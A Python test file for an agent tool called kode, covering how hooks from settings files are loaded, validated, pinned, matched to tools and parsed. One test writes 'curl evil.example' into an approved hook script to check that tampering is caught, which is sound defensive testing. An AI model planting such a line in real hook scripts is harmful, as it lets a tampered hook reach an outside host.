"""Hooks of settings files: found, pinned with the programs they name, matched, read."""

import json
from pathlib import Path
from typing import Any

import pytest

from kode.extensions.hook_runs import call_fields, join_answers, names_of, parse_answer
from kode.extensions.hooks import Hook, is_current
from kode.extensions.review import in_use
from kode.tools.apply_patch import apply_patch
from kode.tools.processes import ProgramRun
from tests.extensions.found_extensions.conftest import World
from tests.tables import for_each


def settings(event: str, command: str, matcher: str = "", **more: Any) -> str:
    hook = {"type": "command", "command": command, **more}
    return json.dumps({"hooks": {event: [{"matcher": matcher, "hooks": [hook]}]}})


def the_hook(world: World) -> Hook:
    (found,) = world.find().hooks
    return found.thing


def test_the_files_of_all_places_count_together(world: World) -> None:
    files = {
        ".claude/settings.json": "new",
        ".claude/settings.local.json": "new",
        "~/.claude/settings.json": "used",
        "~/kode-home/config.json": "used",
    }
    for file in (*files, "kode.json"):
        world.write(file, settings("Stop", file))
    assert {one.thing.command: one.standing for one in world.find().hooks} == files


@pytest.mark.parametrize(
    ("given", "said"),
    [
        (settings("Sotp", "x"), "kode has no event 'Sotp'"),
        (settings("Stop", " "), "has no command"),
        (settings("Stop", "x", type="prompt"), "not 'prompt'"),
        (settings("PreToolUse", "x", "Edit("), "is not a regular expression"),
        (settings("Stop", "x", timeout="soon"), "not a number of seconds"),
        (settings("PreToolUse", "x", **{"if": "Bash(git *)"}), "kode knows no `if`"),
        ("{", "were left out"),
    ],
)
def test_unusable_hooks_are_left_out_with_a_reason(world: World, given: str, said: str) -> None:
    world.write(".claude/settings.json", given)
    found = world.find()
    assert found.hooks == ()
    assert said in found.problems["hooks"][0]


@pytest.mark.parametrize("name", ["check.sh", "shared.sh"])
@pytest.mark.parametrize(
    "command",
    [
        '"$CLAUDE_PROJECT_DIR"/.claude/hooks/check.sh --strict',
        "bash ${CLAUDE_PROJECT_DIR}/.claude/hooks/check.sh",
        'cd "$CLAUDE_PROJECT_DIR" && ./.claude/hooks/check.sh',
        "$(git rev-parse --show-toplevel)/.claude/hooks/check.sh",
        "bash -c '.claude/hooks/check.sh; true'",
        "X=.claude/hooks/check.sh sh -c '$X'",
    ],
)
def test_a_pin_covers_named_programs_and_those_beside_them(
    world: World, command: str, name: str
) -> None:
    world.write(".claude/settings.json", settings("PreToolUse", command))
    world.write(".claude/hooks/check.sh", ". shared.sh\n")
    world.write(".claude/hooks/shared.sh", "exit 0\n")
    world.approve()
    hook = in_use(world.find().hooks)[0]
    assert is_current(hook, world.around())
    world.write(f".claude/hooks/{name}", "curl evil.example\n")
    assert world.find().hooks[0].standing == "changed"
    assert not is_current(hook, world.around())


@for_each(
    ("tool", "matchers", "others"),
    [
        ("shell", ["", "*", "Bash", "shell"], ["Edit|Write", "Ba"]),
        ("write_file", ["Edit|Write"], ["Bash"]),
        ("edit_file", ["^(Edit|MultiEdit)$"], []),
        ("mcp__files__read", ["mcp__.*"], ["Read"]),
    ],
)
def test_a_matcher_names_tools_as_other_agents_or_as_kode(
    world: World, tool: str, matchers: list[str], others: list[str]
) -> None:
    for matcher in (*matchers, *others):
        world.write("~/.claude/settings.json", settings("PreToolUse", "x", matcher))
        assert the_hook(world).matches(names_of(tool)) is (matcher in matchers), matcher


PATCHED = {"path": "a.py", "old_text": "a", "new_text": "b"}
EDITED = {"file_path": "{cwd}/a.py", "old_string": "a", "new_string": "b", "replace_all": False}
WRITTEN = {"file_path": "/x/a.py", "content": "c"}


@for_each(
    ("tool", "arguments", "name", "given"),
    [
        ("shell", {"command": "ls", "timeout_s": 2.0}, "Bash", {"command": "ls", "timeout": 2000}),
        ("edit_file", PATCHED, "Edit", EDITED),
        ("write_file", {"path": "/x/a.py", "content": "c"}, "Write", WRITTEN),
        ("read_file", {"path": "a", "limit": 3}, "Read", {"file_path": "{cwd}/a", "limit": 3}),
        ("todo", {"items": [{"text": "t"}]}, "TodoWrite", {"items": [{"text": "t"}]}),
        ("mcp__a__b", {"path": "x"}, "mcp__a__b", {"path": "x"}),
    ],
)
def test_a_call_is_told_in_the_words_of_hooks(
    tool: str, arguments: dict[str, Any], name: str, given: dict[str, Any]
) -> None:
    told = call_fields(tool, arguments, Path("/project"))
    expected = json.loads(json.dumps(given).replace("{cwd}", "/project"))
    assert told == {"tool_name": name, "tool_input": expected}


def printed(answer: str) -> ProgramRun:
    return ProgramRun(exit_code=0, stdout=answer)


@for_each(
    ("ran", "outcome", "said"),
    [
        (ProgramRun(exit_code=0), "", ""),
        (ProgramRun(exit_code=2, stderr="no secrets"), "deny", "no secrets"),
        (ProgramRun(exit_code=1, stderr="oops"), "", "failed with exit status 1 (oops)"),
        (ProgramRun(exit_code=127), "", "its program was not found"),
        (ProgramRun(exit_code=None, fault="did not end within 1 s"), "", "did not end within 1 s"),
        (printed("{broken"), "", "printed invalid JSON"),
        (printed('{"decision": "block", "reason": "r"}'), "deny", "r"),
        (printed('{"decision": "approve"}'), "allow", ""),
        (printed('{"continue": false, "stopReason": "s"}'), "deny", "s"),
        (printed('{"hookSpecificOutput": {"permissionDecision": "ask"}}'), "ask", "wants you to"),
        (printed('{"hookSpecificOutput": {"updatedInput": "ls"}}'), "deny", "is no object"),
        (printed('{"hookSpecificOutput": {"decision": {"behavior": "allow"}}}'), "allow", ""),
    ],
)
def test_exit_code_and_output_give_a_hooks_answer(
    world: World, ran: ProgramRun, outcome: str, said: str
) -> None:
    world.write("~/.claude/settings.json", settings("PreToolUse", "x"))
    answer = parse_answer(the_hook(world), ran)
    assert answer.outcome == outcome
    assert said in answer.reason + answer.message


def test_a_refusal_beats_other_answers_and_all_context_stays(world: World) -> None:
    world.write("~/.claude/settings.json", settings("UserPromptSubmit", "x"))
    hook = the_hook(world)
    refused = ProgramRun(exit_code=2, stderr="no")
    ran = [printed("note one"), printed('{"decision": "approve"}'), refused, printed("note two")]
    answer = join_answers(parse_answer(hook, one) for one in ran)
    assert answer.outcome == "deny"
    assert answer.context == "note one\n\nnote two"


def test_a_hook_on_edits_sees_each_part_of_a_patch(tmp_path: Path) -> None:
    patch = (
        "*** Begin Patch\n*** Update File: a.py\n@@\n-one\n+two\n@@\n-three\n+four\n"
        "*** Update File: b.py\n@@\n kept\n-one\n+two\n*** Delete File: c.py\n*** End Patch"
    )
    parts = apply_patch.parts(apply_patch.check({"input": patch}))
    seen = [call_fields(tool.name, tool.check(given), tmp_path) for tool, given in parts]
    several, one, _ = (call["tool_input"] for call in seen)
    assert [call["tool_name"] for call in seen] == ["Edit", "Edit", "Edit"]
    assert [call["tool_input"]["file_path"][-4:] for call in seen] == ["a.py", "b.py", "c.py"]
    assert [edit["new_string"] for edit in several["edits"]] == ["two", "four"]
    assert (one["old_string"], one["new_string"]) == ("kept\none", "kept\ntwo")
